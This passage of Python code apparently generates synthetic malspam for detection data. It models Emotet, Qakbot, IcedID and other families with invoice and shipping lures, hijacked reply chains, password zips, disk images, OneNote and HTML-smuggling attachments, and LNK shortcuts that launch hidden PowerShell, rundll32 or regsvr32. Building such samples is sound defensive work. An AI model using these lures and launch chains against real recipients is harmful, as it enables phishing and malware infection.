        addr = f"{G.local_part(rng, f, l)}@{dom}"
        env = G.clean_envelope(ctx, addr, dom, [ctx.rcpt])
        ctx.trait("compromised_account")
        return G.display(f, l), addr, env, None, mailer
    if style == "webmail":
        dom = rng.choice(G.FREEMAIL)
        f, l = G.person(rng)
        addr = f"{G.local_part(rng, f, l)}{rng.randint(1, 999)}@{dom}"
        org = rng.choice(G.ORGS)[1]
        env = G.clean_envelope(ctx, addr, dom, [ctx.rcpt])
        return f"{G.display(f, l)} - {org}", addr, env, None, mailer
    if style == "internal":
        f, l = G.person(rng)
        dom = rng.choice(G.FREEMAIL)
        addr = f"{G.local_part(rng, f, l)}.{ctx.our_domain.split('.')[0]}@{dom}"
        env = G.clean_envelope(ctx, addr, dom, [ctx.rcpt])
        ctx.trait("display_name_colleague")
        return G.display(f, l), addr, env, None, mailer
    brand, key = rng.choice(BRANDS)
    host = vps_host(rng)
    dom = rng.choice([f"{key}-{rng.choice(['notify', 'services', 'mail', 'docs', 'express'])}.example",
                      f"{G.alnum(rng, 8, 'abcdefghijklmnopqrstuvwxyz')}.example", f"{key}.com.{G.alnum(rng, 5)}.example"])
    addr = f"{rng.choice(['noreply', 'info', 'support', 'billing', 'notification', 'accounts'])}@{dom}"
    env = {"client_ip": host["ip"], "helo": host["helo"], "mail_from": addr, "rcpt_to": [ctx.rcpt], "received_at": ctx.ms}
    ctx.trait("brand_display_name")
    return brand, addr, env, "vps", mailer


def mal_headers(ctx, name, addr, env, subject, mailer, style, extra=()):
    rng = ctx.rng
    dom = addr.split("@")[1]
    sent = ctx.ms - rng.randint(2000, 90000)
    tz = rng.choice(G.TZ_OFFSETS)
    hs = []
    if style != "vps":
        hs.append(G.sender_received(ctx, env["helo"], sent + rng.randint(300, 3000), tz))
    hs += [f"Message-ID: {G.message_id(rng, mailer[2], dom, sent)}", f"Date: {G.rfc_date(sent, tz)}",
           f"From: {G.fmt_addr(name, addr)}", f"To: {ctx.rcpt}", f"Subject: {subject}"] + list(extra) + \
        ["MIME-Version: 1.0", f"{mailer[0]}: {mailer[1]}"]
    return hs


def mal_finish(ctx, hs, root, env, kind, style):
    rd = None
    if style == "vps":
        rd = "unknown" if ctx.rng.random() < 0.5 else env["helo"]
    return G.finish(ctx, hs, root, env, kind, received=G.mx_received(ctx, env, rdns=rd))


def body_and_parts(ctx, text, parts, html=False, mailer=None):
    rng = ctx.rng
    style = (mailer or ("", "", "", "exchange"))[3]
    body = G.text_part(ctx, text)
    if html or rng.random() < 0.5:
        body = G.multipart(ctx, "alternative", [body, G.text_part(ctx, G.html_from_paras(text.split("\n\n")), "html",
                                                                   cte="quoted-printable")], style, preamble=False)
    return G.multipart(ctx, "mixed", [body] + parts, style) if parts else body


THREAD_SUBJECTS = ["project status", "updated quote", "meeting next week", "delivery schedule",
                   "contract renewal", "Q3 figures", "open invoices", "site visit", "order confirmation"]


def reply_chain(ctx, lead):
    """A reply to a stolen thread: a short lure on top of a quoted real
    conversation (Emotet, Qakbot and IcedID replied into threads taken from
    infected mailboxes)."""
    rng = ctx.rng
    topic = rng.choice(THREAD_SUBJECTS)
    quoted = ""
    for lvl in range(rng.randint(1, 3)):
        who = G.display(*G.person(rng))
        quoted += (f"\n\n-----Original Message-----\nFrom: {who}\nSent: "
                   f"{ctx.date(ctx.ms - (lvl + 1) * rng.randint(3, 90) * 86400000)}\nSubject: RE: {topic}\n\n" +
                   "\n\n".join(G.paragraphs(rng, G.BUSINESS, rng.randint(200, 1200))))
    ctx.trait("reply_chain")
    return f"RE: {topic}", G.wrap(lead + quoted)


INVOICE_LEADS = ["Please see the attached invoice and confirm receipt.",
                 "Attached is the invoice you asked for. Let me know if anything is missing.",
                 "Kindly find attached the payment confirmation.",
                 "Please review the attached document and get back to me today.",
                 "As discussed, the revised documents are attached.",
                 "Here is the remittance advice for the last transfer."]
SHIPPING_LEADS = ["Your parcel could not be delivered because of an incomplete address. See the attached shipping documents.",
                  "Dear customer, please find the original shipping documents (BL, invoice, packing list) attached.",
                  "Your shipment is on hold at customs. The attached document lists what we need from you.",
                  "Arrival notice: the container has arrived. Please check the attached documents."]
PO_LEADS = ["Please find our new purchase order attached and send your best price with delivery time.",
            "Kindly quote for the items in the attached RFQ at your earliest convenience.",
            "Attached is the PO. Please confirm the order and the proforma invoice.",
            "We are interested in your products; our requirements are in the attached file."]
PAY_LEADS = ["Your payslip for this month is attached.", "Please review the attached payroll adjustment.",
             "HR has updated the salary review; the details are in the attached document."]
SCAN_LEADS = ["Scanned document attached.", "Sent from the office scanner. Pages: 3.",
              "A new scan is ready. Open the attached file to view it."]


def ref(rng):
    return rng.choice([f"INV-{rng.randint(10000, 99999)}", f"{rng.randint(1000000, 9999999)}",
                       f"PO{rng.randint(2024000, 2025999)}", f"DOC_{rng.randint(100, 999)}_{rng.randint(1000, 9999)}"])


def simple_lure(ctx, kind):
    rng = ctx.rng
    r = ref(rng)
    if kind == "invoice":
        return rng.choice([f"Invoice {r}", f"Payment confirmation {r}", f"Remittance advice {r}", f"Overdue invoice {r}"]), \
            rng.choice(INVOICE_LEADS), r
    if kind == "shipping":
        return rng.choice([f"DHL shipment notification {r}", f"Shipping documents - BL {r}", f"Arrival notice {r}",
                           f"Delivery failed: parcel {r}"]), rng.choice(SHIPPING_LEADS), r
    if kind == "po":
        return rng.choice([f"New order {r}", f"RFQ {r}", f"Purchase order {r}", f"Request for quotation - {r}"]), \
            rng.choice(PO_LEADS), r
    if kind == "payroll":
        return rng.choice(["Payroll update", "Salary adjustment", f"Payslip {r}", "Bonus payment details"]), \
            rng.choice(PAY_LEADS), r
    return rng.choice([f"Scanned document {r}", f"Scan_{r}", "Message from office scanner"]), rng.choice(SCAN_LEADS), r


def att(ctx, data, name, members=None, **rec):
    rng = ctx.rng
    info = dict(rec)
    if members:
        info["members"] = members
    info["sniffed"] = msniff(data)
    return G.attachment(ctx, data, ctype_for(ctx, name), name, b64w=rng.choice([76, 76, 72]), **info)


def pw_text(rng, pw):
    return rng.choice([f"Password: {pw}", f"The archive password is {pw}", f"Use {pw} to open the file.",
                       f"Document password: {pw}", f"PW: {pw}", f"For security reasons the file is protected, password {pw}"])


def mkpw(rng):
    return rng.choice([G.digits(rng, rng.randint(3, 5)), G.alnum(rng, rng.randint(3, 6)).upper(),
                       G.alnum(rng, 3, "abcdefghijklmnopqrstuvwxyz") + G.digits(rng, 3)])


def wave(ctx, kind, sender, subject, lead, parts, html=False, chain=False, traits=()):
    """Assemble one malicious message."""
    name, addr, env, style, mailer = mal_sender(ctx, sender)
    host = getattr(ctx, "host", None)
    if host:  # stream mode: the copy comes from one of the wave's sending hosts
        env["client_ip"], env["helo"], style = host["ip"], host["pc"] if ctx.rng.random() < 0.5 else host["word"], "vps"
    if chain:
        subject, text = reply_chain(ctx, lead)
    else:
        greet = ctx.rng.choice(["Hello,", "Hi,", "Dear Sir/Madam,", f"Hi {ctx.rcpt_first.title()},", "Good day,"])
        text = G.wrap(f"{greet}\n\n{lead}\n\n{ctx.rng.choice(['Regards,', 'Best regards,', 'Thanks,', 'Kind regards,'])}\n{name}\n")
    extra = [f"In-Reply-To: {G.message_id(ctx.rng, 'exchange', G.ORGS[0][0], ctx.ms - 86400000)}"] if chain else []
    hs = mal_headers(ctx, name, addr, env, subject, mailer, style, extra)
    root = body_and_parts(ctx, text, parts, html, mailer)
    ctx.trait(*traits)
    return mal_finish(ctx, hs, root, env, kind, style)


def lnk_for(rng, ms, target_exe, args, icon=None, workdir=""):
    icon = icon or rng.choice([r"%SystemRoot%\System32\imageres.dll", r"%SystemRoot%\System32\shell32.dll",
                               r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"])
    return C.lnk(target_exe, args, working_dir=workdir, icon=icon, icon_index=rng.choice([0, 2, 3, 14, 67, 70, 243]),
                 show=7, ms=ms - rng.randint(3600, 86400 * 30) * 1000, drive_serial=rng.getrandbits(32),
                 relative_path="..\\..\\..\\..\\Windows\\System32\\" + target_exe.rsplit("\\", 1)[-1],
                 machine_id=rng.choice(["", "desktop-" + G.alnum(rng, 7), "win-" + G.alnum(rng, 11)]))


SYS32 = "C:\\Windows\\System32\\"


def lnk_rundll(rng, ms, dll_rel):
    exe, args = rng.choice([("rundll32.exe", f"{dll_rel},{rng.choice(['DllRegisterServer', '#1', 'Start', 'EdgeMain'])}"),
                            ("regsvr32.exe", f"/s {dll_rel}"),
                            ("cmd.exe", f"/c start /min rundll32 {dll_rel},{rng.choice(['DllRegisterServer', 'Wind'])}")])
    return lnk_for(rng, ms, SYS32 + exe, args)


def lnk_script(rng, ms, script_rel):
    ext = script_rel.rsplit(".", 1)[-1]
    if ext == "ps1":
        return lnk_for(rng, ms, SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
                       f"-ExecutionPolicy Bypass -WindowStyle Hidden -File {script_rel}")
    if ext in ("cmd", "bat"):
        return lnk_for(rng, ms, SYS32 + "cmd.exe", f"/c {script_rel}")
    return lnk_for(rng, ms, SYS32 + rng.choice(["wscript.exe", "cscript.exe"]), f"//B //E:jscript {script_rel}"
                   if ext == "js" else script_rel)


def docname(rng, stem_choices, ext):
    return f"{rng.choice(stem_choices)}_{rng.randint(1000, 99999)}.{ext}"


DOC_STEMS = ["Invoice", "Document", "Payment", "Remittance", "Scan", "Report", "Statement", "Contract", "Order",
             "Shipping_Documents", "Receipt", "Quotation", "Purchase_Order", "Form", "Details"]


def iso_of(ctx, files, volid=None):
    rng = ctx.rng
    return C.iso9660(files, volid or rng.choice(["CDROM", "DOCUMENT", "INVOICE", "NEW", ref(rng)[:16]]),
                     ctx.ms - rng.randint(600, 86400) * 1000, application=rng.choice(["", "POWERISO", "IMGBURN V2.5.8.0",
                                                                                     "MKISOFS ISO9660/HFS/UDF FILESYSTEM BUILDER"]))


def img_of(ctx, files, label="NEW VOLUME"):
    return C.fat_image(files, label[:11], ctx.ms - ctx.rng.randint(600, 86400) * 1000, ctx.rng.getrandbits(32),
                       min_bytes=ctx.rng.choice([0, 0, 1474560]))


def zipped(ctx, members, password=None):
    rng = ctx.rng
    dt = G.zip_dt(ctx.ms - rng.randint(60, 86400) * 1000)
    if password:
        return G.make_encrypted_zip(rng, members, password, dt, deflate=True)
    return G.make_zip(members, dt, windows=True, stored=rng.random() < 0.2)


# =============================================================================
# The families.  Each function: one copy of the wave, choosing among the
# documented variants ("kinds").
# =============================================================================


def fam_emotet(ctx):
    rng = ctx.rng
    ms = ctx.ms
    v = rng.random()
    if v < 0.3:   # 2019-2020: Word .doc, AutoOpen -> PowerShell download, reply chains
        name = rng.choice(["INV", "Invoice", "Document", "ARCHIVOFILE", "Payment", "Info"]) + f"_{rng.randint(1000, 999999)}.doc"
        doc = ole_doc(rng, ms, macro_source(rng, "doc"))
        return wave(ctx, "emotet.doc-macro", "compromised", *simple_lure(ctx, "invoice")[:2],
                    [att(ctx, doc, name)], chain=rng.random() < 0.7, traits=("macro_autoexec", "ole2"))
    if v < 0.5:   # autumn 2020: password zip holding the .doc, password in the body
        pw = mkpw(rng)
        inner = ole_doc(rng, ms, macro_source(rng, "doc"))
        iname = docname(rng, DOC_STEMS, "doc")
        z = zipped(ctx, [(iname, inner)], pw)
        subj, lead, _ = simple_lure(ctx, "invoice")
        return wave(ctx, "emotet.pwzip-doc", "compromised", subj, lead + "\n\n" + pw_text(rng, pw),
                    [att(ctx, z, docname(rng, DOC_STEMS, "zip"), [describe(iname, inner)], encrypted=True, password=pw)],
                    chain=rng.random() < 0.6, traits=("encrypted_zip", "password_in_body", "macro_autoexec"))
    if v < 0.7:   # 2021-2022: Excel workbooks with auto-run macros
        x = xlsm(rng, ms, "", "Book1", macro_source(rng, "xls"))
        return wave(ctx, "emotet.xlsm", "compromised", *simple_lure(ctx, "invoice")[:2],
                    [att(ctx, x, docname(rng, DOC_STEMS, "xlsm"))], chain=True, traits=("macro_autoexec", "ooxml_macro"))
    # March 2023: OneNote with an embedded .wsf behind "click to view"
    one = C.onenote(rng, [("click.png", G.synthetic_png(rng, rng.randint(8000, 30000))),
                          (rng.choice(["click.wsf", "Open.wsf", "view.wsf"]), wsf_dropper(rng))], "Document")
    return wave(ctx, "emotet.onenote-wsf", "compromised", *simple_lure(ctx, "invoice")[:2],
                [att(ctx, one, docname(rng, DOC_STEMS, "one"))], chain=True, traits=("onenote_embedded_script",))


def qakbot_iso(ctx):
    rng = ctx.rng
    dll = synthetic_dll(rng, rng.randint(300000, 700000) // 4)
    folder = rng.choice(["", "", "files/", "data/"])
    dname = f"{G.alnum(rng, rng.randint(4, 8), 'abcdefghijklmnopqrstuvwxyz')}.{rng.choice(['dll', 'dll', 'dat', 'tmp'])}"
    lname = docname(rng, ["Report", "Invoice", "Document", "Payment", "Attachment"], "lnk")
    files = [(lname, lnk_rundll(rng, ctx.ms, folder.replace("/", "\\") + dname)), (folder + dname, dll, True)]
    if rng.random() < 0.3:  # the calc.exe side-loading variant (July 2022)
        files.append(("calc.exe", G.synthetic_pe(rng, 26000), True))
        files.append(("WindowsCodecs.dll", synthetic_dll(rng, 40000), True))
    iso = iso_of(ctx, files)
    return iso, [describe(f[0], f[1]) for f in files]


def fam_qakbot(ctx):
    rng = ctx.rng
    v = rng.random()
    if v < 0.35:  # 2022: HTML smuggling -> password zip -> ISO -> LNK + DLL
        iso, iso_members = qakbot_iso(ctx)
        iname = docname(rng, DOC_STEMS, "iso")
        pw = mkpw(rng)
        z = zipped(ctx, [(iname, iso)], pw)
        zname = docname(rng, DOC_STEMS, "zip")
        page = html_smuggle(rng, z, zname, rng.choice(["blob-atob", "blob-reversed", "msblob"]), password=pw)
        return wave(ctx, "qakbot.html-zip-iso-lnk", "compromised", *simple_lure(ctx, "invoice")[:2],
                    [att(ctx, page, docname(rng, DOC_STEMS, "html"),
                         [describe(zname, z, [describe(iname, iso, iso_members)], encrypted=True, password=pw)])],
                    chain=True, traits=("html_smuggling", "encrypted_zip", "password_in_attachment", "iso", "lnk_system_binary",
                                        "dll_in_image"))
    if v < 0.55:  # Jan-Feb 2023: OneNote with an embedded .hta
        name = rng.choice(["Open.hta", "Open.cmd", "attachment.hta"])
        payload = hta_dropper(rng) if name.endswith(".hta") else cmd_dropper(rng)
        one = C.onenote(rng, [("open.png", G.synthetic_png(rng, rng.randint(8000, 30000))), (name, payload)], "Attachment")
        return wave(ctx, "qakbot.onenote-hta", "compromised", *simple_lure(ctx, "invoice")[:2],
                    [att(ctx, one, docname(rng, ["ApplicationReject", "Invoice", "Compensation", "Document"], "one"))],
                    chain=True, traits=("onenote_embedded_script",))
    if v < 0.75:  # April 2023: a PDF whose button links to a zip holding a .wsf
        pdf = pdf_document(["Document protected", "This document contains protected files.",
                              "To display them, click the Open button."],
                             uri=bad_url(rng, "zip"), ms=ctx.ms, button_text="Open")
        return wave(ctx, "qakbot.pdf-link-zip", "compromised", *simple_lure(ctx, "invoice")[:2],
                    [att(ctx, pdf, docname(rng, DOC_STEMS, "pdf"))], chain=True, traits=("pdf_link_to_archive",))
    # 2023: zip holding a padded .wsf (and decoys)
    w = wsf_dropper(rng)
    wname = docname(rng, DOC_STEMS, "wsf")
    members = [(wname, w)]
    if rng.random() < 0.5:
        members.append((docname(rng, DOC_STEMS, "pdf"), G.synthetic_pdf(rng, rng.randint(4000, 20000), "Document")))
    z = zipped(ctx, members)
    return wave(ctx, "qakbot.zip-wsf", "compromised", *simple_lure(ctx, "invoice")[:2],
                [att(ctx, z, docname(rng, DOC_STEMS, "zip"), [describe(n, d) for n, d in members])],
                chain=True, traits=("script_in_archive",))


def icedid_iso(ctx):
    rng = ctx.rng
    dll = synthetic_dll(rng, rng.randint(40000, 200000))
    dname = G.alnum(rng, rng.randint(4, 8), "abcdefghijklmnopqrstuvwxyz") + ".dll"
    lname = rng.choice(["document.lnk", "Document.lnk", "invoice.lnk"])
    files = [(lname, lnk_rundll(rng, ctx.ms, dname)), (dname, dll, True)]
    if rng.random() < 0.4:  # the later variant: LNK -> cmd batch -> rundll32
        bat = f"@echo off\r\nrundll32 {dname},#1\r\n".encode()
        bname = G.alnum(rng, 6, "abcdefghijklmnopqrstuvwxyz") + ".cmd"
        files = [(lname, lnk_script(rng, ctx.ms, bname)), (bname, bat, True), (dname, dll, True)]
    return iso_of(ctx, files), [describe(f[0], f[1]) for f in files]


def fam_icedid(ctx):
    rng = ctx.rng
    v = rng.random()
    if v < 0.35:
        iso, mem = icedid_iso(ctx)
        return wave(ctx, "icedid.iso-lnk-dll", rng.choice(["compromised", "brand"]), *simple_lure(ctx, "invoice")[:2],
                    [att(ctx, iso, docname(rng, DOC_STEMS, "iso"), mem)], chain=rng.random() < 0.5,
                    traits=("iso", "lnk_system_binary", "dll_in_image"))
    if v < 0.65:  # 2022 (hijacked Exchange threads): password zip -> ISO
        iso, mem = icedid_iso(ctx)
        pw = mkpw(rng)
        iname = docname(rng, DOC_STEMS, "iso")
        z = zipped(ctx, [(iname, iso)], pw)
        return wave(ctx, "icedid.pwzip-iso", "compromised", "", "Please see the attached unprocessed payment documents.\n\n"
                    + pw_text(rng, pw), [att(ctx, z, docname(rng, DOC_STEMS, "zip"), [describe(iname, iso, mem)],
                                             encrypted=True, password=pw)], chain=True,
                    traits=("encrypted_zip", "password_in_body", "iso", "lnk_system_binary"))
    # TA551/Shathak 2020-2021: password zip of a macro document
    pw = mkpw(rng)
    inner = ole_doc(rng, ctx.ms, macro_source(rng, "doc")) if rng.random() < 0.6 else \
        docx(rng, G.paragraphs(rng, G.BUSINESS, 400), ctx.ms, vba_modules=macro_source(rng, "doc"))
    iname = rng.choice(["request", "document", "info", "official paper"]) + f".{rng.randint(10, 99)}.{rng.randint(10, 99)}" + \
        (".doc" if inner[:2] == b"\xd0\xcf" else ".docm")
    z = zipped(ctx, [(iname, inner)], pw)
    return wave(ctx, "icedid.pwzip-doc", "compromised", "", "Important information. " + pw_text(rng, pw),
                [att(ctx, z, rng.choice(["request.zip", "info.zip", "documents.zip"]), [describe(iname, inner)],
                     encrypted=True, password=pw)], chain=True,
                traits=("encrypted_zip", "password_in_body", "macro_autoexec"))


def exe_named(rng, stems):
    stem = rng.choice(stems) + rng.choice(["", f"_{rng.randint(100, 99999)}", f" {ref(rng)}"])
    return stem + rng.choice([".exe", ".exe", ".scr", ".pdf.exe", ".com"])


PO_STEMS = ["PO", "Purchase Order", "RFQ", "Quotation", "Order", "Shipping Documents", "Payment Advice", "SWIFT Copy",
            "Proforma Invoice", "BL Copy", "Specification"]


def fam_agenttesla(ctx):
    rng = ctx.rng
    exe = G.synthetic_pe(rng, rng.randint(300000, 900000) // 3)
    ename = exe_named(rng, PO_STEMS)
    subj, lead, _ = simple_lure(ctx, rng.choice(["po", "shipping", "invoice"]))
    v = rng.random()
    if v < 0.3:
        img = img_of(ctx, [(ename, exe)])
        return wave(ctx, "agenttesla.img-exe", "brand", subj, lead, [att(ctx, img, ename.rsplit(".", 1)[0] + ".img",
                                                                        [describe(ename, exe)])],
                    traits=("disk_image", "exe_in_image"))
    if v < 0.55:
        iso = iso_of(ctx, [(ename, exe)])
        return wave(ctx, "agenttesla.iso-exe", "brand", subj, lead, [att(ctx, iso, ename.rsplit(".", 1)[0] + ".iso",
                                                                        [describe(ename, exe)])],
                    traits=("iso", "exe_in_image"))
    if v < 0.8:
        z = zipped(ctx, [(ename, exe)])
        return wave(ctx, "agenttesla.zip-exe", rng.choice(["brand", "webmail"]), subj, lead,
                    [att(ctx, z, ename.rsplit(".", 1)[0].rstrip(".pdf") + ".zip", [describe(ename, exe)])],
                    traits=("executable_in_zip",))
    gz = gzip.compress(exe, 9, mtime=int(ctx.ms / 1000) - 3600)
    return wave(ctx, "agenttesla.gz-exe", "brand", subj, lead,
                [att(ctx, gz, ename.rsplit(".", 1)[0] + ".gz", [describe(ename, exe)])], traits=("executable_in_gzip",))


def fam_bumblebee(ctx):
    rng = ctx.rng
    v = rng.random()
    dll = synthetic_dll(rng, rng.randint(80000, 250000))
    dname = G.alnum(rng, rng.randint(4, 8), "abcdefghijklmnopqrstuvwxyz") + ".dll"
    lname = rng.choice(["documents.lnk", "New Folder.lnk", "Attachments.lnk", "Scan.lnk"])
    if v < 0.45:  # spring 2022: ISO (often zipped or via link) with LNK + hidden DLL
        files = [(lname, lnk_rundll(rng, ctx.ms, dname)), (dname, dll, True)]
        iso = iso_of(ctx, files)
        mem = [describe(f[0], f[1]) for f in files]
        if rng.random() < 0.5:
            iname = docname(rng, ["REQUEST", "Attachments", "DOCUMENT"], "iso")
            z = zipped(ctx, [(iname, iso)])
            part = att(ctx, z, iname[:-4] + ".zip", [describe(iname, iso, mem)])
        else:
            part = att(ctx, iso, docname(rng, ["REQUEST", "Attachments", "DOCUMENT"], "iso"), mem)
        return wave(ctx, "bumblebee.iso-lnk-dll", rng.choice(["compromised", "brand"]),
                    *simple_lure(ctx, rng.choice(["invoice", "scan"]))[:2], [part],
                    chain=rng.random() < 0.5, traits=("iso", "lnk_system_binary", "dll_in_image"))
    if v < 0.8:  # September 2022: VHD holding an LNK and a hidden PowerShell script
        ps = ps1_script(rng)
        pname = G.alnum(rng, 6, "abcdefghijklmnopqrstuvwxyz") + ".ps1"
        vol = C.fat_image([(lname, lnk_script(rng, ctx.ms, pname)), (pname, ps, True)], "DISK",
                          ctx.ms - 3600000, rng.getrandbits(32), min_bytes=rng.choice([1, 2, 3]) << 20, hidden_sectors=2048)
        vhd = C.vhd_fixed(C.mbr_disk(vol, signature=rng.getrandbits(32)), ctx.ms - 3600000, rng.randbytes(16))
        return wave(ctx, "bumblebee.vhd-lnk-ps1", "brand", *simple_lure(ctx, rng.choice(["invoice", "scan"]))[:2],
                    [att(ctx, vhd, docname(rng, ["Attachments", "Documents", "Report"], "vhd"),
                         [describe(lname, b"L"), describe(pname, ps)])], traits=("vhd", "lnk_system_binary", "script_in_image"))
    files = [(lname, lnk_rundll(rng, ctx.ms, dname)), (dname, dll, True)]
    iso = iso_of(ctx, files)
    iname = docname(rng, ["REQUEST", "DOCUMENT"], "iso")
    page = html_smuggle(rng, iso, iname, rng.choice(["blob-atob", "msblob"]))
    return wave(ctx, "bumblebee.html-iso", "brand", *simple_lure(ctx, "invoice")[:2],
                [att(ctx, page, iname[:-4] + ".html", [describe(iname, iso, [describe(f[0], f[1]) for f in files])])],
                traits=("html_smuggling", "iso", "lnk_system_binary"))


def fam_onenote(ctx):
    """The OneNote wave of December 2022 - March 2023 (AsyncRAT, RedLine,
    XWorm, Formbook and others): a .one with a 'double click to view' image
    over an embedded script."""
    rng = ctx.rng
    kind = rng.choice(["hta", "cmd", "vbs", "bat", "wsf", "js"])
    payload = {"hta": hta_dropper, "cmd": cmd_dropper, "bat": cmd_dropper, "vbs": vbs_dropper,
               "wsf": wsf_dropper, "js": js_dropper}[kind](rng)
    pname = rng.choice(["Open", "View", "Click to view", "document", "invoice"]) + "." + kind
    one = C.onenote(rng, [("button.png", G.synthetic_png(rng, rng.randint(6000, 40000))), (pname, payload)],
                    rng.choice(["Double click to view file", "This document is protected", "Click to view document"]))
    subj, lead, r = simple_lure(ctx, rng.choice(["invoice", "shipping", "invoice", "scan"]))
    return wave(ctx, f"onenote.{kind}", rng.choice(["brand", "webmail", "compromised"]), subj, lead,
                [att(ctx, one, docname(rng, ["Remittance", "Invoice", "Shipping_Document", "ACH_Form", "Drawing"], "one"),
                     [describe(pname, payload)])], traits=("onenote_embedded_script",))


def fam_formbook(ctx):
    rng = ctx.rng
    subj, lead, _ = simple_lure(ctx, rng.choice(["po", "shipping"]))
    v = rng.random()
    if v < 0.4:  # docx with a remote template (the document holds no macro itself)
        url = bad_url(rng, rng.choice(["dotm", "doc", "rtf"]))
        d = docx(rng, G.paragraphs(rng, G.BUSINESS, 300), ctx.ms, template_url=url)
        return wave(ctx, "formbook.docx-remote-template", "brand", subj, lead,
                    [att(ctx, d, docname(rng, PO_STEMS, "docx").replace(" ", "_"))], traits=("remote_template",))
    exe = G.synthetic_pe(rng, rng.randint(200000, 700000) // 3)
    ename = exe_named(rng, PO_STEMS)
    if v < 0.75:
        z = zipped(ctx, [(ename, exe)])
        return wave(ctx, "formbook.zip-exe", "brand", subj, lead,
                    [att(ctx, z, ename.split(".")[0] + ".zip", [describe(ename, exe)])], traits=("executable_in_zip",))
    iso = iso_of(ctx, [(ename, exe)])
    return wave(ctx, "formbook.iso-exe", "brand", subj, lead,
                [att(ctx, iso, ename.split(".")[0] + ".iso", [describe(ename, exe)])], traits=("iso", "exe_in_image"))


def fam_remcos(ctx):
    rng = ctx.rng
    v = rng.random()
    if v < 0.5:  # 2020 COVID-19 themed ISO/IMG with the RAT inside (Microsoft)
        exe = G.synthetic_pe(rng, rng.randint(100000, 400000))
        ename = exe_named(rng, ["COVID-19 Update", "SBA Loan Application", "HAN Alert", "Health Advisory"])
        subj = rng.choice(["COVID-19 related updates", "SBA disaster loan: your application", "Health Alert Network update"])
        lead = "Please read the attached document for the latest guidance."
        if rng.random() < 0.5:
            cont, cname = iso_of(ctx, [(ename, exe)]), ename.split(".")[0] + ".iso"
        else:
            cont, cname = img_of(ctx, [(ename, exe)]), ename.split(".")[0] + ".img"
        return wave(ctx, "remcos.image-exe", "brand", subj, lead, [att(ctx, cont, cname, [describe(ename, exe)])],
                    traits=("disk_image", "exe_in_image"))
    # 2023-2024 DBatLoader: archive holding an obfuscated batch file
    b = cmd_dropper(rng)
    bname = docname(rng, PO_STEMS, rng.choice(["cmd", "bat"])).replace(" ", "_")
    z = zipped(ctx, [(bname, b)])
    subj, lead, _ = simple_lure(ctx, "po")
    return wave(ctx, "remcos.zip-cmd", "brand", subj, lead, [att(ctx, z, bname.rsplit(".", 1)[0] + ".zip", [describe(bname, b)])],
                traits=("script_in_archive",))


def fam_dridex(ctx):
    rng = ctx.rng
    subj, lead, _ = simple_lure(ctx, "invoice")
    if rng.random() < 0.6:
        x = xlsm(rng, ctx.ms, "", "Invoice", macro_source(rng, "xls"))
        return wave(ctx, "dridex.xlsm", rng.choice(["brand", "compromised"]), subj, lead,
                    [att(ctx, x, docname(rng, ["Invoice", "Statement", "Remittance"], "xlsm"))], traits=("macro_autoexec",))
    x = ole_xls(rng, ctx.ms, macro_source(rng, "xls"))
    return wave(ctx, "dridex.xls", rng.choice(["brand", "compromised"]), subj, lead,
                [att(ctx, x, docname(rng, ["Invoice", "Statement", "Remittance"], "xls"))], traits=("macro_autoexec", "ole2"))


def fam_ursnif(ctx):
    rng = ctx.rng
    if rng.random() < 0.6:  # 2020: password zip of a macro document in a reply chain
        pw = mkpw(rng)
        inner = ole_doc(rng, ctx.ms, macro_source(rng, "doc"))
        iname = f"info_{rng.randint(10, 31):02d}{rng.randint(1, 12):02d}.doc"
        z = zipped(ctx, [(iname, inner)], pw)
        return wave(ctx, "ursnif.pwzip-doc", "compromised", "", "Good morning, the document you requested. " + pw_text(rng, pw),
                    [att(ctx, z, f"info_{rng.randint(100, 999)}.zip", [describe(iname, inner)], encrypted=True, password=pw)],
                    chain=True, traits=("encrypted_zip", "password_in_body", "macro_autoexec"))
    x = xlsm(rng, ctx.ms, "", "Fattura", macro_source(rng, "xls"))
    return wave(ctx, "ursnif.xlsm", "brand", rng.choice(["Fattura", "Sollecito di pagamento", "Invoice"]) + f" {ref(rng)}",
                "In allegato la fattura. / Please find the invoice attached.",
                [att(ctx, x, docname(rng, ["Fattura", "Invoice"], "xlsm"))], traits=("macro_autoexec",))


def fam_asyncrat(ctx):
    rng = ctx.rng
    v = rng.random()
    if v < 0.4:  # 2021-2022: HTML smuggling of an ISO holding a script
        s = vbs_dropper(rng) if rng.random() < 0.5 else js_dropper(rng)
        sname = docname(rng, DOC_STEMS, "vbs" if s.startswith(b"'") or b"CreateObject" in s[:600] else "js")
        iso = iso_of(ctx, [(sname, s)])
        iname = docname(rng, DOC_STEMS, "iso")
        page = html_smuggle(rng, iso, iname, rng.choice(["blob-atob", "charcodes", "data-uri"]))
        return wave(ctx, "asyncrat.html-iso-script", "brand", *simple_lure(ctx, "invoice")[:2],
                    [att(ctx, page, iname[:-4] + ".html", [describe(iname, iso, [describe(sname, s)])])],
                    traits=("html_smuggling", "iso", "script_in_image"))
    if v < 0.7:  # 2024-2025: SVG attachments that rebuild a zip holding a script
        s = js_dropper(rng) if rng.random() < 0.5 else vbs_dropper(rng)
        sname = docname(rng, DOC_STEMS, "js" if b"ActiveXObject" in s else "vbs")
        z = zipped(ctx, [(sname, s)])
        zname = docname(rng, DOC_STEMS, "zip")
        svg = html_smuggle(rng, z, zname, rng.choice(["blob-atob", "blob-reversed"]), svg=True)
        return wave(ctx, "asyncrat.svg-zip-script", rng.choice(["brand", "compromised"]), *simple_lure(ctx, "invoice")[:2],
                    [att(ctx, svg, zname[:-4] + ".svg", [describe(zname, z, [describe(sname, s)])])],
                    traits=("svg_smuggling", "script_in_archive"))
    payload = hta_dropper(rng)
    one = C.onenote(rng, [("view.png", G.synthetic_png(rng, rng.randint(6000, 30000))), ("Open.hta", payload)],
                    "Double click to view file")
    return wave(ctx, "asyncrat.onenote-hta", "brand", *simple_lure(ctx, "shipping")[:2],
                [att(ctx, one, docname(rng, ["Shipping_Document", "Invoice"], "one"), [describe("Open.hta", payload)])],
                traits=("onenote_embedded_script",))


def fam_guloader(ctx):
    rng = ctx.rng
    subj, lead, _ = simple_lure(ctx, rng.choice(["po", "invoice", "shipping"]))
    s = vbs_dropper(rng)
    sname = docname(rng, PO_STEMS, "vbs").replace(" ", "_")
    if rng.random() < 0.6:  # 2022-2023: zip holding a VBS
        z = zipped(ctx, [(sname, s)])
        return wave(ctx, "guloader.zip-vbs", "brand", subj, lead, [att(ctx, z, sname[:-4] + ".zip", [describe(sname, s)])],
                    traits=("script_in_archive",))
    img = img_of(ctx, [(sname, s)])
